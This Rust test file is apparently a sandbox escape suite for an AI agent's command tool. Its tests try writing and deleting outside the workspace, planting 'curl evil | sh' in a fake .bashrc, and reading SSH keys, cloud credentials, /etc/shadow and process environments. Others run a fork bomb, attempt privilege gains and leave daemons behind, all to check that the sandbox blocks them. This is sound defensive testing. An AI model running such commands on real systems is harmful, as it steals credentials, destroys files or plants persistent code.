//! The attack suite of `exec`: commands that try each way out of the confined sandbox.
//! Every attempt must be denied or contained, leave nothing outside the grants changed,
//! and leave the machine able to run the next command. Each test skips, saying why, on
//! a kernel that cannot confine commands (then exec is off there anyway).
//!
//! Secrets are fake ones the tests plant outside the workspace; checks on real files
//! (the real home, /etc/shadow) only ever open them and print DENIED or READABLE, never
//! their contents.

use std::fs;
use std::io::ErrorKind;
use std::net::TcpListener;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use ossa_sandbox::{ExecGrant, Tool};

use crate::exec::which;
use crate::support::{
    SECRET, Scene, confined, exec_supported, exec_tool, exit_code, processes_with, run_script,
};

/// A scene with a fake home (`outside/home`) holding an SSH key and cloud credentials.
fn scene_with_home() -> (Scene, PathBuf) {
    let scene = Scene::new();
    let home = scene.outside().join("home");
    fs::create_dir_all(home.join(".ssh")).unwrap();
    fs::create_dir_all(home.join(".aws")).unwrap();
    fs::write(home.join(".ssh/id_ed25519"), SECRET).unwrap();
    fs::write(home.join(".aws/credentials"), SECRET).unwrap();
    fs::write(home.join(".bashrc"), "# fake\n").unwrap();
    (scene, home)
}

/// Runs an attack script; checks that no planted secret leaked and nothing outside the
/// workspace changed, and that the next command still runs. Returns the model's text.
async fn attack(scene: &Scene, tool: &Tool, script: &str) -> String {
    let before = crate::support::snapshot(&scene.outside());
    let text = run_script(tool, &scene.workspace(), script).await;
    assert!(
        !text.contains(SECRET),
        "secret leaked by {script:?}:\n{text}"
    );
    assert_eq!(
        crate::support::snapshot(&scene.outside()),
        before,
        "{script:?} changed files outside the workspace:\n{text}"
    );
    let next = run_script(tool, &scene.workspace(), "echo still works").await;
    assert!(next.ends_with("Output:\nstill works\n"), "{next}");
    text
}

/// Each line of `probe` output is `name: DENIED` or `name: READABLE`.
fn assert_all_denied(text: &str, expected: usize) {
    let verdicts: Vec<&str> = text.lines().filter(|line| line.contains(": ")).collect();
    let denied = verdicts
        .iter()
        .filter(|line| line.ends_with(": DENIED"))
        .count();
    assert_eq!(denied, expected, "not everything was denied:\n{text}");
}

/// Reads each path (lists a directory, reads a file; printing no contents) and says
/// whether it worked. Only opening counts: `stat` is not confined (see `ossa_sandbox::exec`).
fn read_probe(paths: &[&Path]) -> String {
    paths
        .iter()
        .map(|path| {
            format!(
                "if [ -d '{0}' ]; then ls '{0}'; else cat '{0}'; fi >/dev/null 2>&1 \
                 && echo '{0}: READABLE' || echo '{0}: DENIED'; ",
                path.display()
            )
        })
        .collect()
}

#[tokio::test]
async fn writing_outside_the_workspace_is_denied() {
    if !exec_supported("writing_outside_the_workspace_is_denied") {
        return;
    }
    let (scene, home) = scene_with_home();
    let tool = exec_tool(confined(30.0)).await;
    let outside = scene.outside();
    let marker = std::env::temp_dir().join(format!("ossa-exec-attack-{}", std::process::id()));
    let attempts = [
        format!("echo pwned > {}/new.txt", outside.display()),
        format!("echo pwned >> {}/secret.txt", outside.display()),
        format!("truncate -s 0 {}/secret.txt", outside.display()),
        format!(": > {}/secret.txt", outside.display()),
        format!("rm -f {}/secret.txt", outside.display()),
        format!(
            "mv {}/secret.txt {}/moved.txt",
            outside.display(),
            outside.display()
        ),
        format!("ln -s /etc/passwd {}/link", outside.display()),
        format!("mkdir {}/dir", outside.display()),
        format!("echo 'curl evil | sh' >> {}/.bashrc", home.display()),
        format!("touch {}", marker.display()),
        "touch /usr/ossa-pwned".to_owned(),
        "touch /etc/ossa-pwned".to_owned(),
    ];
    let script: String = attempts
        .iter()
        .map(|attempt| format!("if {attempt} 2>/dev/null; then echo 'WROTE: {attempt}'; else echo 'x: DENIED'; fi; "))
        .collect();
    let text = attack(&scene, &tool, &script).await;
    assert!(!text.contains("WROTE"), "{text}");
    assert_all_denied(&text, attempts.len());
    assert!(!marker.exists() && !Path::new("/usr/ossa-pwned").exists());
    // Writing inside the workspace works.
    let text = attack(&scene, &tool, "echo ok > inside.txt && cat inside.txt").await;
    assert!(text.ends_with("Output:\nok\n"), "{text}");
}

#[tokio::test]
async fn home_files_and_system_secrets_are_unreadable() {
    if !exec_supported("home_files_and_system_secrets_are_unreadable") {
        return;
    }
    let (scene, home) = scene_with_home();
    let tool = exec_tool(confined(30.0)).await;
    let real_home = PathBuf::from(std::env::var_os("HOME").unwrap_or_else(|| "/root".into()));
    let planted = [
        home.join(".ssh/id_ed25519"),
        home.join(".ssh"),
        home.join(".aws/credentials"),
        scene.outside().join("secret.txt"),
    ];
    let system = [
        real_home.clone(),
        real_home.join(".ssh"),
        real_home.join(".bash_history"),
        PathBuf::from("/etc/shadow"),
        PathBuf::from("/etc/gshadow"),
        PathBuf::from("/etc/ssh"),
        PathBuf::from("/var/log"),
        PathBuf::from("/root"),
    ];
    let existing: Vec<&Path> = planted
        .iter()
        .chain(system.iter())
        .map(PathBuf::as_path)
        .filter(|path| path.exists())
        .collect();
    let mut script = read_probe(&existing);
    // Reading the planted secrets outright prints nothing either.
    script.push_str(&format!(
        "cat {0}/.ssh/id_ed25519 {0}/.aws/credentials {1}/secret.txt; ls {0}/.ssh; true",
        home.display(),
        scene.outside().display()
    ));
    let text = attack(&scene, &tool, &script).await;
    assert_all_denied(&text, existing.len());
    assert!(text.contains("Permission denied"), "{text}");
    // System files commands need are readable.
    let text = attack(
        &scene,
        &tool,
        &read_probe(&[Path::new("/etc/passwd"), Path::new("/usr/bin")]),
    )
    .await;
    assert!(!text.contains("DENIED"), "{text}");
}

#[tokio::test]
async fn symlinks_out_of_the_workspace_lead_nowhere() {
    if !exec_supported("symlinks_out_of_the_workspace_lead_nowhere") {
        return;
    }
    let (scene, home) = scene_with_home();
    let workspace = scene.workspace();
    std::os::unix::fs::symlink("/etc", workspace.join("etc-link")).unwrap();
    std::os::unix::fs::symlink(home.join(".ssh"), workspace.join("ssh-link")).unwrap();
    std::os::unix::fs::symlink(scene.outside(), workspace.join("out-link")).unwrap();
    std::os::unix::fs::symlink(
        scene.outside().join("secret.txt"),
        workspace.join("file-link"),
    )
    .unwrap();
    let tool = exec_tool(confined(30.0)).await;
    let mut script = read_probe(&[
        Path::new("etc-link/shadow"),
        Path::new("ssh-link/id_ed25519"),
        Path::new("ssh-link"),
        Path::new("file-link"),
        Path::new("out-link/secret.txt"),
    ]);
    for write in [
        "echo x > out-link/new.txt",
        "echo x >> file-link",
        "truncate -s 0 file-link",
        "cp file-link copied.txt",
        "ln out-link/secret.txt hardlink.txt",
        "ln -s ../outside/secret.txt rel-link && cat rel-link",
    ] {
        script.push_str(&format!(
            "if {write} 2>/dev/null; then echo 'WROTE: {write}'; else echo 'w: DENIED'; fi; "
        ));
    }
    let text = attack(&scene, &tool, &script).await;
    assert!(!text.contains("WROTE"), "{text}");
    assert_all_denied(&text, 11);
    assert!(!workspace.join("copied.txt").exists() && !workspace.join("hardlink.txt").exists());
}

#[tokio::test]
async fn the_network_is_unreachable_unless_granted() {
    if !exec_supported("the_network_is_unreachable_unless_granted") {
        return;
    }
    let scene = Scene::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!(
        "if echo hello > /dev/tcp/127.0.0.1/{port}; then echo CONNECTED; else echo 'tcp: DENIED'; fi"
    );
    let tool = exec_tool(confined(30.0)).await;
    let text = attack(&scene, &tool, &script).await;
    assert!(
        text.contains("tcp: DENIED") && !text.contains("CONNECTED"),
        "{text}"
    );
    assert_eq!(
        listener.accept().map(drop).unwrap_err().kind(),
        ErrorKind::WouldBlock,
        "the listener outside the sandbox was reached"
    );
    // With the grant, the same command reaches it.
    let tool = exec_tool(ExecGrant {
        net: true,
        ..confined(30.0)
    })
    .await;
    let text = run_script(&tool, &scene.workspace(), &script).await;
    assert!(text.contains("CONNECTED"), "{text}");
    let deadline = Instant::now() + Duration::from_secs(5);
    while listener.accept().is_err() {
        assert!(
            Instant::now() < deadline,
            "the granted connection never arrived"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[tokio::test]
async fn host_unix_sockets_are_unreachable() {
    if !exec_supported("host_unix_sockets_are_unreachable") {
        return;
    }
    if which("python3").is_none() {
        eprintln!("SKIPPED host_unix_sockets_are_unreachable: no python3 on this machine");
        return;
    }
    let scene = Scene::new();
    // A stand-in for /run/docker.sock: a service of the user's, outside the workspace.
    let path = scene.outside().join("daemon.sock");
    let listener = UnixListener::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let tool = exec_tool(ExecGrant {
        net: true,
        ..confined(30.0)
    })
    .await;
    let script = format!(
        "python3 -c \"
import socket
try:
    s = socket.socket(socket.AF_UNIX); s.connect('{}'); print('CONNECTED')
except OSError as err:
    print('unix: DENIED', err)
a, b = socket.socketpair(); a.sendall(b'pairs work'); print(b.recv(16).decode())
\"",
        path.display()
    );
    let text = run_script(&tool, &scene.workspace(), &script).await;
    assert!(
        text.contains("unix: DENIED") && !text.contains("CONNECTED"),
        "{text}"
    );
    assert!(text.contains("pairs work"), "{text}");
    assert_eq!(
        listener.accept().map(drop).unwrap_err().kind(),
        ErrorKind::WouldBlock
    );
}

#[tokio::test]
async fn dangerous_system_calls_are_filtered() {
    if !exec_supported("dangerous_system_calls_are_filtered") {
        return;
    }
    if which("python3").is_none() {
        eprintln!("SKIPPED dangerous_system_calls_are_filtered: no python3 on this machine");
        return;
    }
    let scene = Scene::new();
    let tool = exec_tool(confined(30.0)).await;
    // io_uring_setup(1, NULL) and keyctl(GET_KEYRING_ID, SESSION): without the filter
    // they fail with EFAULT and succeed; with it both are missing (ENOSYS).
    let nr = |x86_64: i64, aarch64: i64| {
        if cfg!(target_arch = "aarch64") {
            aarch64
        } else {
            x86_64
        }
    };
    let script = format!(
        "python3 -c \"
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for name, nr, args in [('io_uring_setup', {}, (1, None)), ('keyctl', {}, (0, -3, 0))]:
    result = libc.syscall(nr, *args)
    print(name, result, ctypes.get_errno())
\"",
        nr(425, 425),
        nr(250, 219)
    );
    let text = run_script(&tool, &scene.workspace(), &script).await;
    assert!(text.contains("io_uring_setup -1 38\n"), "{text}");
    assert!(text.contains("keyctl -1 38\n"), "{text}");
}

#[tokio::test]
async fn processes_beyond_the_limit_are_refused() {
    if !exec_supported("processes_beyond_the_limit_are_refused") {
        return;
    }
    let scene = Scene::new();
    let tool = exec_tool(ExecGrant {
        processes: 32,
        ..confined(30.0)
    })
    .await;
    // 100 children at most, whatever happens: the check itself cannot run away. bash
    // retries a refused fork a few times, then gives up.
    let text = attack(
        &scene,
        &tool,
        "for i in $(seq 100); do sleep 5 & done; echo \"all $(jobs -p | wc -l) started\"",
    )
    .await;
    assert!(
        text.contains("fork: retry: Resource temporarily unavailable"),
        "{text}"
    );
    assert!(!text.contains("all 100 started"), "{text}");
}

#[tokio::test]
async fn a_fork_bomb_is_contained() {
    if !exec_supported("a_fork_bomb_is_contained") {
        return;
    }
    let scene = Scene::new();
    let tool = exec_tool(ExecGrant {
        processes: 64,
        ..confined(5.0)
    })
    .await;
    let marker = format!("ossa-bomb-{}", std::process::id());
    let started = Instant::now();
    let text = attack(
        &scene,
        &tool,
        &format!("bomb() {{ bomb | bomb & }}; bomb; sleep 30 # {marker}"),
    )
    .await;
    assert!(
        started.elapsed() < Duration::from_secs(60),
        "took {:?}",
        started.elapsed()
    );
    assert!(text.contains("Resource temporarily unavailable"), "{text}");
    assert_eq!(processes_with(&marker), Vec::<String>::new());
}

#[tokio::test]
async fn a_gigabyte_of_output_stays_bounded() {
    if !exec_supported("a_gigabyte_of_output_stays_bounded") {
        return;
    }
    let scene = Scene::new();
    let tool = exec_tool(confined(120.0)).await;
    let rss_before = rss_kib();
    let started = Instant::now();
    let text = run_script(
        &tool,
        &scene.workspace(),
        "echo FIRST; yes 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcde | head -c 1073741824; echo; echo LAST",
    )
    .await;
    let elapsed = started.elapsed();
    let rss_after = rss_kib();
    assert_eq!(
        exit_code(&text),
        Some(0),
        "{}",
        &text[..text.len().min(500)]
    );
    assert!(
        text.len() < 20_000,
        "{} bytes reached the model",
        text.len()
    );
    assert!(
        text.contains("Output:\nFIRST\n0123456789abcdef"),
        "{}",
        &text[..300]
    );
    assert!(text.ends_with("\nLAST\n"), "{}", &text[text.len() - 300..]);
    let note = text.lines().find(|line| line.starts_with("[… ")).unwrap();
    let omitted: u64 = note["[… ".len()..]
        .split(' ')
        .next()
        .unwrap()
        .parse()
        .unwrap();
    assert!(omitted > 1_073_741_824 - 20_000, "{note}");
    // The flood passed through a fixed buffer: ossa's memory did not grow with it (the
    // margin allows for other tests running in this process meanwhile).
    assert!(
        rss_after < rss_before + 256 * 1024,
        "RSS grew from {rss_before} KiB to {rss_after} KiB"
    );
    eprintln!("1 GiB of output captured in {elapsed:?}");
}

#[tokio::test]
async fn nothing_outlives_the_call() {
    if !exec_supported("nothing_outlives_the_call") {
        return;
    }
    let scene = Scene::new();
    let tool = exec_tool(confined(2.0)).await;
    let marker = format!("ossa-survivor-{}", std::process::id());
    // Children that ignore SIGTERM, a new session, and a double fork; then the command
    // itself outlives its limit.
    let script = format!(
        "trap '' TERM; \
         (trap '' TERM; exec -a {marker}-a sleep 1000) & \
         setsid bash -c '(exec -a {marker}-b sleep 1000 &) ; exec -a {marker}-c sleep 1000' & \
         sleep 0.3; echo spawned; exec -a {marker}-d sleep 1000"
    );
    let text = attack(&scene, &tool, &script).await;
    assert!(text.starts_with("Timed out after 2 s"), "{text}");
    assert!(text.contains("spawned"), "{text}");
    assert_eq!(processes_with(&marker), Vec::<String>::new());
    // A command that exits at once but leaves a daemon behind: the daemon dies with it.
    let text = attack(
        &scene,
        &tool,
        &format!("setsid bash -c 'exec -a {marker}-e sleep 1000' & sleep 0.3; echo left a daemon"),
    )
    .await;
    assert_eq!(exit_code(&text), Some(0), "{text}");
    assert_eq!(processes_with(&marker), Vec::<String>::new());
}

#[tokio::test]
async fn no_privileges_can_be_gained() {
    if !exec_supported("no_privileges_can_be_gained") {
        return;
    }
    let scene = Scene::new();
    let tool = exec_tool(confined(30.0)).await;
    let uid = rustix_uid();
    let text = attack(
        &scene,
        &tool,
        "grep NoNewPrivs /proc/self/status; cat /proc/self/uid_map | wc -l; \
         if su nobody -s /bin/sh -c true </dev/null 2>/dev/null; then echo 'SU WORKED'; else echo 'su: DENIED'; fi; \
         if hostname ossa-pwned 2>/dev/null; then echo 'HOSTNAME CHANGED'; else echo 'hostname: DENIED'; fi; \
         touch mine; if chown 12345 mine 2>/dev/null; then echo 'CHOWN WORKED'; else echo 'chown: DENIED'; fi; \
         mkdir -p mnt; if mount -t tmpfs none mnt 2>/dev/null; then echo 'MOUNTED'; else echo 'mount: DENIED'; fi",
    )
    .await;
    assert!(text.contains("NoNewPrivs:\t1\n"), "{text}");
    assert!(text.contains("\n1\n"), "one uid mapped: {text}");
    for denied in [
        "su: DENIED",
        "hostname: DENIED",
        "chown: DENIED",
        "mount: DENIED",
    ] {
        assert!(text.contains(denied), "{denied}: {text}");
    }
    assert_ne!(
        fs::read_to_string("/proc/sys/kernel/hostname")
            .unwrap()
            .trim(),
        "ossa-pwned"
    );
    // A setuid binary owned by someone else runs with the command's own identity.
    if uid == 0 {
        let copy = scene.workspace().join("suid-id");
        fs::copy("/usr/bin/id", &copy).unwrap();
        std::os::unix::fs::chown(&copy, Some(65534), None).unwrap();
        use std::os::unix::fs::PermissionsExt;
        fs::set_permissions(&copy, fs::Permissions::from_mode(0o4755)).unwrap();
        let text = attack(&scene, &tool, "./suid-id -u").await;
        assert!(text.ends_with("Output:\n0\n"), "setuid took effect: {text}");
    }
}

#[tokio::test]
async fn environment_secrets_do_not_reach_commands() {
    if !exec_supported("environment_secrets_do_not_reach_commands") {
        return;
    }
    // The secret must be in this process's environment from its start (setting it now
    // would race with other test threads), so the probe runs in a fresh test process.
    let output = std::process::Command::new(std::env::current_exe().unwrap())
        .args([
            "--exact",
            "exec_attacks::environment_secret_probe",
            "--ignored",
            "--nocapture",
            "--test-threads=1",
        ])
        .env("OSSA_TEST_SECRET_TOKEN", SECRET)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{stdout}\n{stderr}");
    assert!(
        stdout.contains("1 passed"),
        "the probe did not run:\n{stdout}\n{stderr}"
    );
}

#[tokio::test]
#[ignore = "run by environment_secrets_do_not_reach_commands, with a secret in the environment"]
async fn environment_secret_probe() {
    assert_eq!(
        std::env::var("OSSA_TEST_SECRET_TOKEN").as_deref(),
        Ok(SECRET)
    );
    let scene = Scene::new();
    let tool = exec_tool(confined(30.0)).await;
    let ossa = std::process::id();
    let script = format!(
        "env; if cat /proc/{ossa}/environ >/dev/null 2>&1; then echo 'environ: READABLE'; \
         else echo 'environ: DENIED'; fi; cat /proc/{ossa}/environ; \
         if kill -0 {ossa} 2>/dev/null; then echo 'SIGNALLED OSSA'; else echo 'kill: DENIED'; fi"
    );
    let text = attack(&scene, &tool, &script).await;
    assert!(!text.contains("OSSA_TEST_SECRET_TOKEN"), "{text}");
    assert!(
        text.contains("environ: DENIED") && text.contains("kill: DENIED"),
        "{text}"
    );
    // A variable the grant names does pass.
    let tool = exec_tool(ExecGrant {
        env: vec!["OSSA_TEST_SECRET_TOKEN".to_owned()],
        ..confined(30.0)
    })
    .await;
    let text = run_script(
        &tool,
        &scene.workspace(),
        "echo \"$OSSA_TEST_SECRET_TOKEN\"",
    )
    .await;
    assert!(text.contains(SECRET), "{text}");
}

fn rss_kib() -> u64 {
    fs::read_to_string("/proc/self/status")
        .unwrap()
        .lines()
        .find_map(|line| line.strip_prefix("VmRSS:"))
        .and_then(|value| value.trim().trim_end_matches(" kB").trim().parse().ok())
        .unwrap()
}

fn rustix_uid() -> u32 {
    fs::read_to_string("/proc/self/status")
        .unwrap()
        .lines()
        .find_map(|line| line.strip_prefix("Uid:"))
        .and_then(|ids| ids.split_whitespace().next()?.parse().ok())
        .unwrap()
}
